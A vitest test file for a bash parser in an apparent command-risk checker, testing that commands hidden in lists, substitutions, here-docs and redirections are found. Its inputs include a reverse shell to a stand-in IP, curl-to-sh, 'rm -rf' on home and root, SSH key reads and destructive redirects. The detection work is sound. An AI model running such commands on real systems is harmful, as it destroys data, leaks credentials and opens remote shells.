// The shell parser on the constructs of bash itself: lists, pipelines, compound commands, functions,
// substitutions, here-docs, redirections and assignments, walked as the shell would run them; and what it cannot read.
import { beforeAll, describe, expect, it } from 'vitest';
import type { ParsedCommand } from '../../../../../electron/core/risk/model.ts';
import type { ShellParse } from '../../../../../electron/core/risk/parse/index.ts';
import { loadRiskCorpus } from '../../../../support/risk-corpus.ts';
import { line, lines, only, shellParser } from '../../../../support/shell-parse.ts';

let parse: ShellParse;
beforeAll(async () => {
  parse = await shellParser();
});

const read = (cmd: string): ParsedCommand => parse(cmd);

describe('lists and pipelines', () => {
  it('reads every command of a list, whatever joins them', () => {
    const p = read('a; b && c || d & e');
    expect(lines(p)).toEqual(['a', 'b', 'c', 'd', 'e']);
    expect(p.complete).toBe(true);
    expect(p.problems).toEqual([]);
  });

  it('keeps the command after `cd x &&` as its own segment', () => {
    expect(lines(read('cd x && git push -f'))).toEqual(['cd x', 'git push -f']);
  });

  it('gives each pipeline stage the argv of the stage before it', () => {
    const p = read('curl -s https://x.sh | sh');
    expect(lines(p)).toEqual(['curl -s https://x.sh', 'sh']);
    expect(p.segments[0]?.pipeFrom).toBeNull();
    expect(p.segments[1]?.pipeFrom?.map((w) => w.text)).toEqual(['curl', '-s', 'https://x.sh']);
  });

  it('reads `|&` like `|`', () => {
    expect(only(read('make |& tee log'), 'tee').pipeFrom?.[0]?.text).toBe('make');
  });

  it('carries what `echo` and `printf` print into the next stage as its stdin', () => {
    expect(only(read('echo "DROP TABLE x;" | psql'), 'psql').stdin).toBe('DROP TABLE x;');
    expect(only(read("printf '%s\\n' 'FLUSHALL' | redis-cli"), 'redis-cli').stdin).toBe('FLUSHALL\n');
  });

  it('reads `! cmd` as cmd', () => {
    expect(lines(read('! rm x'))).toEqual(['rm x']);
  });
});

describe('compound commands', () => {
  it('reads subshells and groups', () => {
    expect(lines(read('(cd /tmp; rm -rf x)'))).toEqual(['cd /tmp', 'rm -rf x']);
    expect(lines(read('{ a; b; }'))).toEqual(['a', 'b']);
  });

  it("applies a compound command's redirections to every command inside", () => {
    for (const cmd of ['{ a; b; } > /dev/sda', '(a; b) > /dev/sda']) {
      const p = read(cmd);
      expect(p.segments.map((s) => s.redirects.map((r) => `${r.op}${r.target.text}`))).toEqual([
        ['>/dev/sda'],
        ['>/dev/sda'],
      ]);
    }
  });

  it('reads every branch of if/elif/else', () => {
    expect(lines(read('if a; then b; elif c; then rm -rf /; else rm -rf ~; fi'))).toEqual([
      'a',
      'b',
      'c',
      'rm -rf /',
      'rm -rf ~',
    ]);
  });

  it('reads the bodies of while, until, for, select and arithmetic for loops', () => {
    expect(lines(read('while true; do rm -rf /; done'))).toEqual(['true', 'rm -rf /']);
    expect(lines(read('until false; do rm -rf /; done'))).toEqual(['false', 'rm -rf /']);
    expect(lines(read('for f in *.log; do rm "$f"; done'))).toEqual(['rm ?$f']);
    expect(lines(read('select x in a b; do rm $x; done'))).toEqual(['rm ?$x']);
    expect(lines(read('for ((i=0; i<3; i++)); do rm $i; done'))).toEqual(['rm ?$i']);
  });

  it('runs the substitutions in a for list', () => {
    expect(lines(read('for f in $(ls); do rm "$f"; done'))).toEqual(['ls', 'rm ?$f']);
  });

  it('reads every arm of a case', () => {
    expect(lines(read('case $x in a) rm -rf /;; b|c) rm -rf ~;; esac'))).toEqual(['rm -rf /', 'rm -rf ~']);
  });

  it('applies the redirection of a loop to its body', () => {
    const p = read('while read f; do rm "$f"; done < list');
    expect(line(p.segments[1] ?? p.segments[0]!)).toBe('rm ?$f');
    expect(p.segments[1]?.redirects[0]?.target.text).toBe('list');
  });

  it('takes the digits written against a redirection as its descriptor, not an argument (`cat 0< f`)', () => {
    for (const [cmd, argv] of [
      ['cat 0< f', 'cat'],
      ['cat 0<f', 'cat'],
      ['rm -rf 0</dev/null /', 'rm -rf /'],
      ['git 0</dev/null push -f origin main', 'git push -f origin main'],
    ] as const) {
      const p = read(cmd);
      expect(line(p.segments[0]!), cmd).toBe(argv);
      expect(
        p.segments[0]?.redirects.map((r) => [r.fd, r.op]),
        cmd,
      ).toEqual([[0, '<']]);
    }
    // With a space between, the digits are an argument.
    expect(line(read('echo 0 < f').segments[0]!)).toBe('echo 0');
  });

  it('reads the substitutions of a [[ … ]] test', () => {
    expect(lines(read('[[ -f $(rm -rf ~) ]]'))).toEqual(['rm -rf ~']);
  });
});

describe('functions', () => {
  it('reads a function body with via `function name`, in both syntaxes', () => {
    for (const cmd of ['f() { rm -rf /; }', 'function f { rm -rf /; }']) {
      const rm = only(read(cmd), 'rm');
      expect(line(rm)).toBe('rm -rf /');
      expect(rm.via).toEqual(['function f']);
    }
  });

  it('reads the call of a function as a command of its own', () => {
    expect(lines(read('deploy() { git push -f; }; deploy'))).toEqual(['git push -f', 'deploy']);
  });
});

describe('substitutions', () => {
  it('runs command substitutions anywhere in a word, with via `$(…)`', () => {
    for (const cmd of [
      'echo $(rm -rf ~)',
      'echo "$(rm -rf ~)"',
      'echo `rm -rf ~`',
      'echo "`rm -rf ~`"',
      'echo x$(rm -rf ~)y',
    ]) {
      const rm = only(read(cmd), 'rm');
      expect(line(rm)).toBe('rm -rf ~');
      expect(rm.via).toEqual(['$(…)']);
    }
  });

  it('keeps the substitution as written in the outer word, unknown', () => {
    expect(line(only(read('echo $(rm -rf ~)'), 'echo'))).toBe('echo ?$(rm -rf ~)');
  });

  it('runs process substitutions, labelled by direction', () => {
    const p = read('diff <(ls a) >(tee b)');
    expect(only(p, 'ls').via).toEqual(['<(…)']);
    expect(only(p, 'tee').via).toEqual(['>(…)']);
    expect(line(only(p, 'diff'))).toBe('diff ?<(ls a) ?>(tee b)');
  });

  it('runs substitutions in assignment values and redirect targets', () => {
    expect(lines(read('X=$(rm -rf ~)'))).toEqual(['rm -rf ~']);
    expect(lines(read('FOO=$(rm -rf ~) ls'))).toEqual(['rm -rf ~', 'ls']);
    const p = read('echo hi > $(rm -rf ~)');
    expect(line(only(p, 'rm'))).toBe('rm -rf ~');
    expect(only(p, 'echo').redirects[0]?.target).toEqual({ text: '$(rm -rf ~)', known: false });
  });

  it('reads `$(< file)` as reading the file', () => {
    const seg = read('echo $(< ~/.ssh/id_rsa)').segments[0];
    expect(seg?.argv).toEqual([]);
    expect(seg?.redirects.map((r) => `${r.op}${r.target.text}`)).toEqual(['<~/.ssh/id_rsa']);
  });
});

describe('here-documents and here-strings', () => {
  it('gives the body as stdin and runs substitutions in an unquoted here-doc', () => {
    const p = read('cat <<EOF > f\nhello $(whoami)\nEOF');
    const cat = only(p, 'cat');
    expect(cat.stdin).toBe('hello $(whoami)\n');
    expect(cat.redirects.map((r) => `${r.op}${r.target.text}`)).toEqual(['>f']);
    expect(only(p, 'whoami').via).toEqual(['$(…)']);
  });

  it('runs nothing in a quoted here-doc', () => {
    for (const cmd of ["cat <<'EOF'\n$(rm -rf ~)\nEOF", 'cat <<"EOF"\n$(rm -rf ~)\nEOF']) {
      expect(lines(read(cmd))).toEqual(['cat']);
    }
  });

  it('strips leading tabs of `<<-`', () => {
    expect(only(read('cat <<-EOF\n\tline\n\tEOF'), 'cat').stdin).toBe('line\n');
  });

  it('reads the commands that follow a here-doc on its first line', () => {
    expect(lines(read('cat <<EOF && rm -rf /\nx\nEOF'))).toEqual(['cat', 'rm -rf /']);
    const p = read('cat <<EOF | psql\nDROP TABLE users;\nEOF');
    expect(only(p, 'psql').stdin).toBe('DROP TABLE users;\n');
    expect(only(p, 'psql').pipeFrom?.[0]?.text).toBe('cat');
  });

  it('gives a here-string as stdin', () => {
    expect(only(read("psql <<< 'DROP TABLE x'"), 'psql').stdin).toBe('DROP TABLE x');
  });
});

describe('redirections', () => {
  it('reads operator, descriptor and target', () => {
    const seg = read('ls > out 2>> err 2>&1 &> all &>> more >| clobber < in').segments[0];
    expect(seg?.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([
      ['>', null, 'out'],
      ['>>', 2, 'err'],
      ['>&', 2, '1'],
      ['&>', null, 'all'],
      ['&>>', null, 'more'],
      ['>|', null, 'clobber'],
      ['<', null, 'in'],
    ]);
  });

  it('reads `<>` (read-write), which tree-sitter-bash does not know, without calling it broken', () => {
    const p = read('exec 3<>/dev/tcp/203.0.113.7/80');
    expect(p.complete).toBe(true);
    expect(p.segments[0]?.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([
      ['<>', 3, '/dev/tcp/203.0.113.7/80'],
    ]);
  });

  it('reads redirections written before the command', () => {
    const seg = read('> /etc/hosts echo x').segments[0];
    expect(line(seg!)).toBe('echo x');
    expect(seg?.redirects[0]?.target.text).toBe('/etc/hosts');
  });

  it('keeps the redirection of a bare `exec` or assignment', () => {
    expect(read('exec > /etc/passwd').segments[0]?.redirects[0]?.target.text).toBe('/etc/passwd');
    expect(read('X=1 > ~/.bashrc').segments[0]?.redirects[0]?.target.text).toBe('~/.bashrc');
  });
});

describe('every word is read, wherever it stands', () => {
  it.each([
    ['rm -rf 2>/dev/null /', 'rm -rf /', ['2>/dev/null']],
    ['git 2>/dev/null push -f origin main', 'git push -f origin main', ['2>/dev/null']],
    ['cat </dev/null ~/.ssh/id_rsa', 'cat ~/.ssh/id_rsa', ['</dev/null']],
    ['>out rm -rf /', 'rm -rf /', ['>out']],
    ['2>&1 rm -rf /', 'rm -rf /', ['2>&1']],
    ['rm 2>/dev/null -rf >x / y', 'rm -rf / y', ['2>/dev/null', '>x']],
    ['rm -rf <<< x / >y z', 'rm -rf / z', ['>y']],
    ['A=1 >x B=2 rm -rf /', 'rm -rf /', ['>x']],
    ['cat <<EOF 2>/dev/null ~/.ssh/id_rsa\nhi\nEOF', 'cat ~/.ssh/id_rsa', ['2>/dev/null']],
    ['cat <<EOF >x y\nhi\nEOF', 'cat y', ['>x']],
    ['exec 2>/dev/null rm -rf /', 'rm -rf /', ['2>/dev/null']],
    ['export A=1 >f B=2', 'export A=1 B=2', ['>f']],
    ['rm -rf 2>/dev/null "$HOME"/x', 'rm -rf ?$HOME/x', ['2>/dev/null']],
  ])('%j reads every argument', (cmd, argv, redirects) => {
    const p = read(cmd);
    const seg = p.segments[p.segments.length - 1]!;
    expect(line(seg)).toBe(argv);
    expect(seg.redirects.map((r) => `${r.fd ?? ''}${r.op}${r.target.text}`)).toEqual(redirects);
    expect(p.complete).toBe(true);
  });

  it('gives the words after a redirection to the last command of a list or pipeline it follows', () => {
    expect(lines(read('rm -rf / 2>/dev/null | cat -n >x y'))).toEqual(['rm -rf /', 'cat -n y']);
    expect(lines(read('true && git >/dev/null push -f'))).toEqual(['true', 'git push -f']);
  });

  it('reads the descriptor tree-sitter files under the redirection before (`>& x 0>&1`)', () => {
    const seg = read('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1').segments[0]!;
    expect(line(seg)).toBe('bash -i');
    expect(seg.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([
      ['>&', null, '/dev/tcp/203.0.113.7/4444'],
      ['>&', 0, '1'],
    ]);
  });

  it('reads the words tree-sitter leaves out of the tree (the `-` before a here-doc)', () => {
    expect(lines(read("python3 - <<'EOF'\nprint(1)\nEOF"))).toEqual(['python3 -']);
    expect(lines(read('git commit -F - <<EOF\nmsg\nEOF'))).toEqual(['git commit -F -']);
  });

  it('ends a command at a newline tree-sitter runs into the next line (a line starting with `\\`)', () => {
    expect(lines(read('cd /tmp\n\\rm -rf ~/x'))).toEqual(['cd /tmp', 'rm -rf ~/x']);
    expect(lines(read('ls\n\\rm x\n\\rm y'))).toEqual(['ls', 'rm x', 'rm y']);
    expect(lines(read('echo a\n\\\nrm -rf ~'))).toEqual(['echo a', 'rm -rf ~']);
    expect(lines(read('export A=1\n\\rm x'))).toEqual(['export A=1', 'rm x']);
    const p = read('echo a\n\\rm x > f | sh');
    expect(lines(p)).toEqual(['echo a', 'rm x', 'sh']);
    expect(only(p, 'rm').redirects[0]?.target.text).toBe('f');
    expect(only(p, 'sh').pipeFrom?.[0]?.text).toBe('rm');
    // An escaped newline still joins the lines; an escaped backslash does not.
    expect(lines(read('echo a \\\nb'))).toEqual(['echo a b']);
    expect(lines(read('echo a\\\\\nrm x'))).toEqual(['echo a\\', 'rm x']);
  });

  it('reads a line starting with `\\` after a redirection or a here-doc marker as its own line', () => {
    const p = read('echo a > f\n\\rm -rf ~');
    expect(lines(p)).toEqual(['echo a', 'rm -rf ~']);
    expect(only(p, 'echo').redirects.map((r) => r.target.text)).toEqual(['f']);
    expect(lines(read('bash <<EOF\n\\rm -rf ~\nEOF'))).toEqual(['rm -rf ~']);
    expect(lines(read("cat <<'EOF' > notes.md\n\\`rm -rf ~\\`\nEOF"))).toEqual(['cat']);
  });

  it('reads the commands inside syntax it could not parse, and says so', () => {
    const p = read('cat <<EOF; rm -rf ~\nx\nEOF');
    expect(p.complete).toBe(false);
    expect(lines(p)).toContain('rm -rf ~');
  });

  it('reads $"…" as the program, and parts of $IFS that are still blanks as splits', () => {
    expect(lines(read('$"rm" -rf ~'))).toEqual(['rm -rf ~']);
    expect(lines(read('rm${IFS%?}-rf${IFS::1}~'))).toEqual(['rm -rf ~']);
  });

  it('reads `<<<` after another redirection as a here-string (tree-sitter reads `<<` and `<`)', () => {
    const p = read("bash 2>/dev/null <<< 'rm -rf ~/'");
    expect(p.complete).toBe(true);
    expect(line(only(p, 'rm'))).toBe('rm -rf ~/');
    expect(only(p, 'rm').via).toEqual(['bash <<<']);
  });

  it('reads words and redirections mixed after a here-doc marker', () => {
    for (const [cmd, argv, redirects] of [
      ['cat <<EOF a >>x b\nhi\nEOF', 'cat a b', ['>>x']],
      ['cat <<EOF a 2>&1 b\nhi\nEOF', 'cat a b', ['2>&1']],
      ['cat <<EOF -n <x\nhi\nEOF', 'cat -n', ['<x']],
      ['cat <<EOF a 2>/dev/null ~/.ssh/id_rsa\nhi\nEOF', 'cat a ~/.ssh/id_rsa', ['2>/dev/null']],
    ] as const) {
      const p = read(cmd);
      expect(p.complete, cmd).toBe(true);
      expect(line(p.segments[0]!)).toBe(argv);
      expect(p.segments[0]!.redirects.map((r) => `${r.fd ?? ''}${r.op}${r.target.text}`)).toEqual(redirects);
    }
  });

  it('gives the words after the redirection of bare assignments to the command they prefix', () => {
    const seg = only(read('A1=x A2=y 2>>log rm -rf / 2>>err <<< z'), 'rm');
    expect(line(seg)).toBe('rm -rf /');
    expect(seg.assignments).toEqual(['A1=x', 'A2=y']);
    expect(seg.redirects.map((r) => r.target.text)).toEqual(['log', 'err']);
  });

  it('splits at $IFS across the parts tree-sitter cuts a word into', () => {
    expect(lines(read('timeout${IFS}30${IFS}rm$IFS-rf$IFS/home/dev'))).toEqual(['rm -rf /home/dev']);
    expect(only(read('sudo${IFS}rm$IFS-rf$IFS/var'), 'rm').via).toEqual(['sudo']);
  });

  it('runs both of two backtick substitutions side by side (tree-sitter reads them as one)', () => {
    expect(lines(read('echo `ls` `rm -rf ~`')).slice(0, 2)).toEqual(['ls', 'rm -rf ~']);
  });

  it('keeps the redirection of a statement that runs no command', () => {
    for (const cmd of [
      '[[ -f x ]] > /etc/passwd',
      '[ -f x ] > /etc/passwd',
      '((i++)) > /etc/passwd',
      '{ x=1; } > /etc/passwd',
      'while false; do :; done > /etc/passwd',
    ]) {
      const targets = read(cmd).segments.flatMap((s) => s.redirects.map((r) => r.target.text));
      expect(targets, cmd).toContain('/etc/passwd');
    }
  });

  it('reports words bash refuses after the redirection of a compound command', () => {
    for (const cmd of ['{ rm x; } >f y', '(rm x) >f y', '[[ -f x ]] >f y']) {
      const p = read(cmd);
      expect(p.complete, cmd).toBe(false);
      expect(p.problems.join(' ')).toMatch(/words after the redirection/);
    }
  });
});

describe('substitutions hidden where tree-sitter does not parse them', () => {
  it.each([
    'echo ${x:-`rm -rf ~`}',
    'echo "${x:=`rm -rf ~`}"',
    'echo ${x/a/`rm -rf ~`}',
    'echo ${x/`rm -rf ~`/b}',
    'echo ${x#`rm -rf ~`}',
    'echo ${x:+a `rm -rf ~` b}',
    'echo ${x:-${y:-`rm -rf ~`}}',
    'echo ${x:-$(rm -rf ~)}',
    'echo ${a[`rm -rf ~`]}',
    'echo ${a[$(rm -rf ~)]}',
    'echo $(( $(rm -rf ~) ))',
    'echo $(( `rm -rf ~` + 1 ))',
    'a[$(rm -rf ~)]=1',
    'a=(`rm -rf ~`)',
    '[[ $(rm -rf ~) == x ]]',
    '[[ x == `rm -rf ~` ]]',
    '[ -f `rm -rf ~` ]',
    'case x in $(rm -rf ~)) echo;; esac',
    'case `rm -rf ~` in a) echo;; esac',
    'for i in `rm -rf ~`; do :; done',
    'echo hi > $(rm -rf ~)',
    'echo hi > `rm -rf ~`',
    'declare x=`rm -rf ~`',
    'local a=(`rm -rf ~`)',
    'readonly x=$(rm -rf ~)',
    'export X="${Y:-`rm -rf ~`}"',
    'cat <(rm -rf ~)',
    'echo hi > >(rm -rf ~)',
    'git commit -F - <<EOF\nfix `rm -rf ~` here\nEOF',
    "cat <<EOF\nit's ${x:-`rm -rf ~`}\nEOF",
    'echo `echo \\`rm -rf ~\\``',
    'echo "`echo \\`rm -rf ~\\``"',
  ])('%j runs the hidden `rm -rf ~`', (cmd) => {
    const rm = read(cmd).segments.filter((s) => s.argv[0]?.text === 'rm');
    expect(rm.map(line), JSON.stringify(lines(read(cmd)))).toEqual(['rm -rf ~']);
    expect(rm[0]?.via.length).toBeGreaterThan(0);
  });

  it('runs nothing in a quoted here-doc or an escaped backtick', () => {
    for (const cmd of [
      "git commit -F - <<'EOF'\nfix `rm -rf ~`\nEOF",
      'git commit -F - <<\\EOF\nfix `rm -rf ~`\nEOF',
      'cat <<EOF\nfix \\`rm -rf ~\\`\nEOF',
      "echo ${x:-'`rm -rf ~`'}",
      'echo \\`rm -rf ~\\`',
    ]) {
      expect(
        read(cmd).segments.filter((s) => s.argv[0]?.text === 'rm'),
        cmd,
      ).toEqual([]);
    }
  });

  it('says when a backtick in a here-doc never closes', () => {
    expect(read('cat <<EOF\na `rm -rf ~\nEOF').problems).toContain(
      'a backtick in a here-document that is never closed',
    );
  });

  it('keeps the outer word as written, once', () => {
    expect(line(only(read('echo ${x:-$(rm -rf ~)}'), 'echo'))).toBe('echo ?${x:-$(rm -rf ~)}');
    expect(line(only(read('echo $(( $(id -u) ))'), 'echo'))).toBe('echo ?$(( $(id -u) ))');
  });
});

describe('assignments and declarations', () => {
  it('separates leading assignments from the command', () => {
    const seg = read('FOO=1 BAR="a b" rm -rf /').segments[0];
    expect(seg?.assignments).toEqual(['FOO=1', 'BAR="a b"']);
    expect(line(seg!)).toBe('rm -rf /');
  });

  it('reads nothing for bare assignments without substitutions', () => {
    expect(read('a=1 b=2').segments).toEqual([]);
  });

  it('reads declare, export, local and unset with their words', () => {
    expect(lines(read('export A=$(curl x) B'))).toEqual(['curl x', 'export ?A=$(curl x) B']);
    expect(lines(read('local y=1'))).toEqual(['local y=1']);
    expect(lines(read('declare -x FOO=$(rm -rf ~)'))).toEqual(['rm -rf ~', 'declare -x ?FOO=$(rm -rf ~)']);
    expect(lines(read('unset PATH'))).toEqual(['unset PATH']);
  });
});

describe('what cannot be read', () => {
  it('says when a quote is never closed, and keeps what it could read', () => {
    for (const cmd of ["echo 'unterminated", 'echo "open', 'ls; echo `x']) {
      const p = read(cmd);
      expect(p.complete).toBe(false);
      expect(p.problems).toContain('an unterminated quote');
      expect(p.segments.length).toBeGreaterThan(0);
    }
  });

  it('says which opener is never closed', () => {
    expect(read('echo $(ls').problems.join(' ')).toMatch(/`\(` that is never closed|unterminated/);
    expect(read('if true; then ls').problems.join(' ')).toMatch(/never reaches `fi`|ends/);
  });

  it('names syntax it could not read', () => {
    const p = read('ls )( x');
    expect(p.complete).toBe(false);
    expect(p.problems.some((m) => /could not read|ends/.test(m))).toBe(true);
  });

  it('reads an empty command and a comment as nothing, completely', () => {
    for (const cmd of ['', '   ', '# rm -rf /'])
      expect(read(cmd)).toEqual({ segments: [], complete: true, problems: [] });
  });

  it('reads the labelled corpus: every command into segments, and all but a few completely', () => {
    const corpus = loadRiskCorpus();
    const unread = corpus.filter((e) => !read(e.cmd).complete);
    expect(corpus.every((e) => read(e.cmd).segments.length > 0)).toBe(true);
    // The few are not bash at all (`icacls … Everyone:(OI)(CI)F`) or eval text only known at run time.
    expect(unread.length, unread.map((e) => e.cmd).join('\n')).toBeLessThanOrEqual(corpus.length * 0.005);
  });

  it('gives each segment the text it came from', () => {
    expect(read('ls -la && rm -rf build').segments.map((s) => s.text)).toEqual(['ls -la', 'rm -rf build']);
  });
});
